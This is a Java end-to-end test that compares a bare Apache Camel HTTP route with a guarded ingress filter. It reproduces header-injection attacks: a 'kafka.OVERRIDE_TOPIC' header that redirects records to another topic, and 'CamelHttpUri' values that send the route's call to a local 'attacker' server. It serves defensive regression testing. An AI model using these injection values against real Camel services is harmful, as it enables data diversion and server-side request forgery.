package dev.drover.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import dev.drover.e2e.harness.CentralProcess;
import dev.drover.e2e.harness.Ports;
import dev.drover.e2e.harness.RawHttp;
import dev.drover.e2e.harness.Shared;
import dev.drover.engine.backbone.KafkaTopics;
import dev.drover.engine.http.Contract;
import dev.drover.engine.http.HttpPort;
import io.vertx.core.Vertx;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.CopyOnWriteArrayList;
import org.apache.camel.CamelContext;
import org.apache.camel.builder.RouteBuilder;
import org.apache.camel.component.platform.http.vertx.VertxPlatformHttpServer;
import org.apache.camel.component.platform.http.vertx.VertxPlatformHttpServerConfiguration;
import org.apache.camel.impl.DefaultCamelContext;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.apache.kafka.clients.consumer.KafkaConsumer;
import org.apache.kafka.common.TopicPartition;
import org.apache.kafka.common.serialization.StringDeserializer;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * What the ingress filter is for: the same route, once behind a bare platform-http port and once
 * behind ours. CVE-2026-49098 (a request header names the Kafka topic) and {@code CamelHttpUri}.
 */
class NaiveRouteTest {
  private static final Duration SOON = Duration.ofSeconds(60);
  private static final CentralProcess CENTRAL = Shared.central();

  @TempDir Path directory;

  /** A context that is stopped at the end of its block. */
  private record Running(CamelContext camel) implements AutoCloseable {
    @Override
    public void close() {
      camel.stop();
    }
  }

  private static RouteBuilder route(String target) {
    return new RouteBuilder() {
      @Override
      public void configure() {
        from("platform-http:/flow?httpMethodRestrict=POST").to(target);
      }
    };
  }

  private static CamelContext naive(int port, String target) throws Exception {
    CamelContext camel = new DefaultCamelContext();
    VertxPlatformHttpServerConfiguration configuration = new VertxPlatformHttpServerConfiguration();
    configuration.setBindHost("127.0.0.1");
    configuration.setBindPort(port);
    camel.addService(new VertxPlatformHttpServer(configuration));
    camel.addRoutes(route(target));
    camel.start();
    return camel;
  }

  private CamelContext ours(Vertx vertx, int port, String target) throws Exception {
    Path contract =
        Files.writeString(
            directory.resolve("flow.yaml"),
            "paths: {/flow: {post: {operationId: flow, requestBody: {}}}}");
    HttpPort http =
        new HttpPort(
            vertx,
            HttpPort.Settings.plain("127.0.0.1", port, 1),
            Contract.of(List.of(contract)),
            Clock.systemUTC());
    CamelContext camel = new DefaultCamelContext();
    http.mount(camel);
    camel.addRoutes(route(target));
    camel.start();
    http.listen();
    return camel;
  }

  private static String post(int port, String uri, String headers) {
    return RawHttp.send(
        port,
        "POST "
            + uri
            + " HTTP/1.1\r\nHost: mall\r\nContent-Type: application/json\r\nConnection: close\r\n"
            + headers
            + "Content-Length: 7\r\n\r\n{\"a\":1}");
  }

  @Test
  void aHeaderNamesTheTopicOnANaiveRouteAndNotOnOurs() throws Exception {
    String brokers = "127.0.0.1:" + CENTRAL.setting("DROVER_KAFKA_PORT");
    String safe = "safe-" + UUID.randomUUID();
    String stolen = "stolen-" + UUID.randomUUID();
    for (String topic : List.of(safe, stolen)) {
      KafkaTopics.at(brokers).ensure(topic, 1, Duration.ofHours(1));
    }
    String target = "kafka:" + safe + "?brokers=" + brokers;
    String attack = "kafka.OVERRIDE_TOPIC: " + stolen + "\r\n";
    int port = Ports.free();
    try (Running naive = new Running(naive(port, target))) {
      post(port, "/flow", attack);
      assertThat(naive.camel().isStarted()).isTrue();
      Awaitility.await("the attack works").atMost(SOON).until(() -> count(brokers, stolen) == 1);
      assertThat(count(brokers, safe)).isZero();
    }
    Vertx vertx = Vertx.vertx();
    int guarded = Ports.free();
    try (Running ours = new Running(ours(vertx, guarded, target))) {
      post(guarded, "/flow", attack);
      post(guarded, "/flow?kafka.OVERRIDE_TOPIC=" + stolen, "");
      assertThat(ours.camel().isStarted()).isTrue();
      Awaitility.await("both records are where they belong")
          .atMost(SOON)
          .until(() -> count(brokers, safe) == 2);
      assertThat(count(brokers, stolen)).isEqualTo(1);
    } finally {
      vertx.close().toCompletionStage().toCompletableFuture().join();
    }
  }

  private static int count(String brokers, String topic) {
    try (KafkaConsumer<String, String> consumer =
        new KafkaConsumer<>(
            Map.of("bootstrap.servers", brokers),
            new StringDeserializer(),
            new StringDeserializer())) {
      TopicPartition partition = new TopicPartition(topic, 0);
      consumer.assign(List.of(partition));
      consumer.seekToBeginning(List.of(partition));
      long end = consumer.endOffsets(List.of(partition)).get(partition);
      int count = 0;
      while (consumer.position(partition) < end) {
        for (ConsumerRecord<String, String> record : consumer.poll(Duration.ofMillis(200))) {
          count += record.topic().equals(topic) ? 1 : 0;
        }
      }
      return count;
    }
  }

  private static HttpServer server(List<String> calls) throws IOException {
    HttpServer server =
        HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    server.createContext(
        "/",
        exchange -> {
          calls.add(exchange.getRequestURI().toString());
          exchange.sendResponseHeaders(204, -1);
          exchange.close();
        });
    server.start();
    return server;
  }

  @Test
  void theCallerNamesTheUrlOnANaiveRouteAndNotOnOurs() throws Exception {
    List<String> rightCalls = new CopyOnWriteArrayList<>();
    List<String> stolenCalls = new CopyOnWriteArrayList<>();
    HttpServer right = server(rightCalls);
    HttpServer attacker = server(stolenCalls);
    Vertx vertx = Vertx.vertx();
    try {
      String target = "http://127.0.0.1:" + right.getAddress().getPort() + "/right";
      String evil = "http://127.0.0.1:" + attacker.getAddress().getPort() + "/flow";
      int port = Ports.free();
      try (Running naive = new Running(naive(port, target))) {
        // The port itself sets CamelHttpUri from the request line, which may name any host.
        post(port, evil, "");
        assertThat(naive.camel().isStarted()).isTrue();
        assertThat(stolenCalls).as("the attack works").hasSize(1);
        assertThat(rightCalls).isEmpty();
      }
      int guarded = Ports.free();
      try (Running ours = new Running(ours(vertx, guarded, target))) {
        post(guarded, evil, "");
        post(guarded, "/flow", "CamelHttpUri: " + evil + "\r\n");
        post(guarded, "/flow?CamelHttpUri=" + evil, "");
        assertThat(ours.camel().isStarted()).isTrue();
        assertThat(stolenCalls).hasSize(1);
        assertThat(rightCalls).isNotEmpty().allMatch(call -> call.startsWith("/right"));
      }
    } finally {
      right.stop(0);
      attacker.stop(0);
      vertx.close().toCompletionStage().toCompletableFuture().join();
    }
  }
}
